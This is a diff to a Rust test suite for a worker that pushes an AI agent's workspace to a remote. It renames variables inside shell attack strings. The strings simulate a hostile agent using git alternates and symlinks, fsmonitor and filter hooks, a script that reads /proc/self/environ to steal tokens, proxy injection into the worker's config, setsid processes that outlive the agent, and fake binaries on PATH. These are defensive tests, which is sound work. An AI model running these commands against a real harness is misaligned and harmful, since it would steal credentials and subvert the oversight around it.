@@ -10,8 +10,8 @@ use crate::support::{Forge, duration_setting, duration_text, quoted, with_enough
 fn objects_of_an_alternate_repository_are_not_used() {
     let setup = Setup::new();
     let work = setup.assert_harmless(
-        r#"git init -q --bare "$AT/else"; GIT_DIR="$AT/else" git hash-object -w --stdin < /etc/hostname
-         echo "$AT/else/objects" > .git/objects/info/alternates; git add DONE; git commit -qm mine"#,
+        r#"git init -q --bare "$OUTSIDE/else"; GIT_DIR="$OUTSIDE/else" git hash-object -w --stdin < /etc/hostname
+         echo "$OUTSIDE/else/objects" > .git/objects/info/alternates; git add DONE; git commit -qm mine"#,
     );
     // The agent damaged its repository, so its commits are ignored, and the files in the workspace are pushed.
     assert_eq!(work["files_changed"], 2);
@@ -26,8 +26,8 @@ fn objects_of_an_alternate_repository_are_not_used() {
 #[test]
 fn objects_behind_links_and_fifos_are_not_used() {
     for attack in [
-        r#"mv .git/objects/pack "$AT/pack"; ln -s "$AT/pack" .git/objects/pack"#,
-        r#"mv .git/objects "$AT/objects"; ln -s "$AT/objects" .git/objects"#,
+        r#"mv .git/objects/pack "$OUTSIDE/pack"; ln -s "$OUTSIDE/pack" .git/objects/pack"#,
+        r#"mv .git/objects "$OUTSIDE/objects"; ln -s "$OUTSIDE/objects" .git/objects"#,
         "mkfifo .git/objects/pack/pack-0000000000000000000000000000000000000000.idx",
         "rm -rf .git/objects/pack/*",
     ] {
@@ -38,14 +38,14 @@ fn objects_behind_links_and_fifos_are_not_used() {
 #[test]
 fn a_repository_that_is_a_link_is_not_followed() {
     Setup::new().assert_harmless(
-        r#"mv .git "$AT/moved"; ln -s "$AT/moved" .git; git config core.fsmonitor "$RUN""#,
+        r#"mv .git "$OUTSIDE/moved"; ln -s "$OUTSIDE/moved" .git; git config core.fsmonitor "$RUN_SPY""#,
     );
 }
 
 #[test]
 fn a_repository_that_is_a_file_is_not_followed() {
     Setup::new().assert_harmless(
-        r#"mv .git "$AT/moved"; echo "gitdir: $AT/moved" > .git; git config core.fsmonitor "$RUN"; git config core.worktree /"#,
+        r#"mv .git "$OUTSIDE/moved"; echo "gitdir: $OUTSIDE/moved" > .git; git config core.fsmonitor "$RUN_SPY"; git config core.worktree /"#,
     );
 }
 
@@ -55,17 +55,17 @@ fn a_filter_in_a_submodule_gets_no_token_and_cannot_change_the_push() {
     let evil = Forge::start(&setup.origin.path(""), None);
     // git runs the filters of a submodule when it looks for changes in it.
     let event = setup.attack(&format!(
-        "cat > \"$AT/tamper\" <<'END'
+        "cat > \"$OUTSIDE/tamper\" <<'END'
 #!/bin/sh
-at=${{0%/*}}
-touch \"$at/tampered\"
-for repository in \"$at\"/tmp/descartes-*; do
+outside=${{0%/*}}
+touch \"$outside/tampered\"
+for repository in \"$outside\"/tmp/descartes-*; do
     printf '[http]\\n\\tproxy = {}\\n' >> \"$repository/config\"
 done
-tr '\\0' '\\n' < /proc/self/environ >> \"$at/spy_output\"
+tr '\\0' '\\n' < /proc/self/environ >> \"$outside/spy_output\"
 exec cat
 END
-         chmod +x \"$AT/tamper\"
+         chmod +x \"$OUTSIDE/tamper\"
          git init -q sub; cd sub; echo a > a; git add a; git -c user.name=a -c user.email=b commit -qm a
          cd ..; git add sub; git commit -qm linked; cd sub
          git config filter.spy.clean {}; echo '* filter=spy' > .gitattributes; echo b > a; cd ..",
@@ -105,7 +105,7 @@ fn a_fifo_that_blocks_git_fails_the_push_and_the_commits_are_on_the_wip_branch()
         // On a busy machine, another git process may be silent for as long as the limit.
         with_enough_time(Duration::from_secs(5), |limit| {
             let setup = Setup::new();
-            let event = setup.attack_within(&duration_setting(limit), &attack);
+            let event = setup.attack_with_git_idle_timeout(&duration_setting(limit), &attack);
             let wip = format!("{BRANCH}-wip");
             let is_pushed = !setup.origin.git(&["branch", "--list", &wip]).is_empty();
             if event["failure"]["reason"] != "push_failed" || !is_pushed {
@@ -136,10 +136,10 @@ fn files_with_unusual_names_are_pushed() {
 
 #[test]
 fn a_workspace_that_became_a_link_is_neither_read_nor_written() {
-    for target in ["/", "$AT/other"] {
+    for target in ["/", "$OUTSIDE/other"] {
         let setup = Setup::new();
         let event = setup.attack(&format!(
-            r#"mkdir -p "$AT/other"; cp -r .scud "$AT/other"; mv "$PWD" "$AT/away"; ln -s "{target}" "$AT/workspace""#
+            r#"mkdir -p "$OUTSIDE/other"; cp -r .scud "$OUTSIDE/other"; mv "$PWD" "$OUTSIDE/away"; ln -s "{target}" "$OUTSIDE/workspace""#
         ));
         assert_eq!(event["failure"]["reason"], "push_failed", "{event}");
         let message = event["failure"]["message"].as_str().unwrap();
@@ -157,8 +157,8 @@ fn a_workspace_that_became_a_link_is_neither_read_nor_written() {
 fn links_to_places_outside_of_the_project_stay_links() {
     let setup = Setup::new();
     setup.assert_harmless(
-        r#"mkdir "$AT/out"; echo outside > "$AT/out/file"; ln -s "$AT/out" dir; ln -s /etc/passwd passwd
-         rm -r src; ln -s "$AT/out" src"#,
+        r#"mkdir "$OUTSIDE/out"; echo outside > "$OUTSIDE/out/file"; ln -s "$OUTSIDE/out" dir; ln -s /etc/passwd passwd
+         rm -r src; ln -s "$OUTSIDE/out" src"#,
     );
     for (link, target) in [
         ("passwd", "/etc/passwd"),
@@ -174,7 +174,7 @@ fn links_to_places_outside_of_the_project_stay_links() {
     }
 
     let setup = Setup::new();
-    let event = setup.attack(r#"mv .scud "$AT/scud"; ln -s "$AT/scud" .scud"#);
+    let event = setup.attack(r#"mv .scud "$OUTSIDE/scud"; ln -s "$OUTSIDE/scud" .scud"#);
     assert_eq!(event["status"], "completed");
     let graph = fs::read_to_string(setup.origin.path("scud/tasks/tasks.scg")).unwrap();
     assert!(graph.contains("house | P |"), "{graph}");
@@ -184,7 +184,7 @@ fn links_to_places_outside_of_the_project_stay_links() {
 fn the_worker_does_not_run_programs_that_the_agent_puts_on_the_path() {
     Setup::new().assert_harmless(
         "for name in git ssh sh git-remote-http git-remote-https git-push git-pack-objects git-credential echo printf; do
-         cp \"$SPY\" \"$AT/bin/$name\"; done",
+         cp \"$SPY\" \"$OUTSIDE/bin/$name\"; done",
     );
 }
 
@@ -192,8 +192,8 @@ fn the_worker_does_not_run_programs_that_the_agent_puts_on_the_path() {
 fn missing_objects_are_not_fetched_from_the_agents_remote() {
     Setup::new().assert_harmless(
         "git config core.repositoryformatversion 1; git config extensions.partialClone evil
-         git config remote.evil.promisor true; git config remote.evil.url \"file://$AT/project.git\"
-         git config remote.evil.uploadpack \"$RUN\"; rm -rf .git/objects/pack/*",
+         git config remote.evil.promisor true; git config remote.evil.url \"file://$OUTSIDE/project.git\"
+         git config remote.evil.uploadpack \"$RUN_SPY\"; rm -rf .git/objects/pack/*",
     );
 }
 
@@ -218,10 +218,10 @@ fn a_process_that_survives_the_agent_cannot_change_the_workers_repositories() {
     let setup = Setup::new();
     let evil = Forge::start(&setup.origin.path(""), None);
     setup.assert_harmless(&format!(
-        "cat > \"$AT/tamper\" <<'END'
+        "cat > \"$OUTSIDE/tamper\" <<'END'
          trap '' TERM HUP; while :; do for config in \"$TMPDIR\"/descartes-*/config; do
          [ -e \"$config\" ] && printf '[http]\\n\\tproxy = {}\\n' >> \"$config\"; done; done\nEND
-         setsid sh \"$AT/tamper\" > /dev/null 2>&1 & (setsid setsid sh \"$AT/tamper\" > /dev/null 2>&1 &) &",
+         setsid sh \"$OUTSIDE/tamper\" > /dev/null 2>&1 & (setsid setsid sh \"$OUTSIDE/tamper\" > /dev/null 2>&1 &) &",
         evil.base_url()
     ));
     assert_eq!(evil.requests(), []);
